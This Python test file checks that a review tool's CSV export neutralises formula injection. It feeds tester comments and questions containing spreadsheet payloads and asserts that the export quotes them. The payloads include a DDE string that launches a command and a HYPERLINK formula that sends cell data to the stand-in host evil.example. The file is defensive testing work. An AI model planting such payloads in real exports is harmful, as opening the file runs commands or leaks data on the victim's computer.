"""L1 of the security review (issue #19): formulas typed by a tester ran when the CSV export was opened.

A cell that starts with = + - @ tab or CR was written as-is, so Excel or LibreOffice ran
`=cmd|' /C calc'!A0` or `=HYPERLINK(...)` on the computer of whoever opened oordelen.csv.
"""

from __future__ import annotations

import csv
import io

import pytest

from gateway import review
from tests.dialogen.test_review_api import auth, client, sent  # noqa: F401 - the fixtures

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def test_formulas_from_testers_are_neutralised_in_the_csv(client):  # noqa: F811 - the fixture
    token = client.testers.add("Anja")
    session = await (await client.post("/review/api/sessions", json={}, headers=auth(token))).json()
    for formula in FORMULAS:  # as a question to Wegwijs, and as a comment on the answer
        await client.post(f"/api/sessions/{session['session_id']}/messages", json={"text": "x " + formula})
    for beurt, formula in enumerate(FORMULAS, start=1):
        mark = {"conversation_id": session["conversation_id"], "beurt": beurt, "oordeel": "klopt", "opmerking": formula}
        assert (await client.post("/review/api/markeringen", json=mark, headers=auth(token))).status == 201
    for beurt, formula in enumerate(FORMULAS, start=1):  # the question cell, exactly as typed
        client.testers.db.execute("UPDATE test_beurten SET tekst = ? WHERE beurt = ?", [formula, beurt])

    text = await (await client.get("/review/api/markeringen.csv", headers=auth(token))).text()
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(TRIGGERS)]
    # Nothing is lost: the tester's text is still there, after the quote that makes it text.
    opmerkingen, vragen = [row[9] for row in rows], [row[10] for row in rows]
    assert opmerkingen == ["'" + formula.strip() for formula in FORMULAS]  # comments are stored stripped
    assert vragen == ["'" + formula for formula in FORMULAS]


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("gewoon commentaar", "gewoon commentaar"),
        ("Het bedrag - 50 euro - klopt", "Het bedrag - 50 euro - klopt"),  # a dash inside the text stays
        ("-50", "-50"),  # a plain number is no formula: it stays a number for the spreadsheet
        ("-12,50", "-12,50"),
        ("+31", "+31"),
        ("-", "'-"),  # OWASP: anything else that starts with = + - @ tab or CR gets the quote
        ("- te lang", "'- te lang"),
        ("-2+3", "'-2+3"),
        ("-50\n=1+1", "'-50\n=1+1"),
        ("@Anja", "'@Anja"),
        ("'al een aanhalingsteken", "'al een aanhalingsteken"),
        (7, 7),
        (None, None),
    ],
)
def test_which_cells_get_the_quote(cell, shown):
    assert review.spreadsheet_safe(cell) == shown
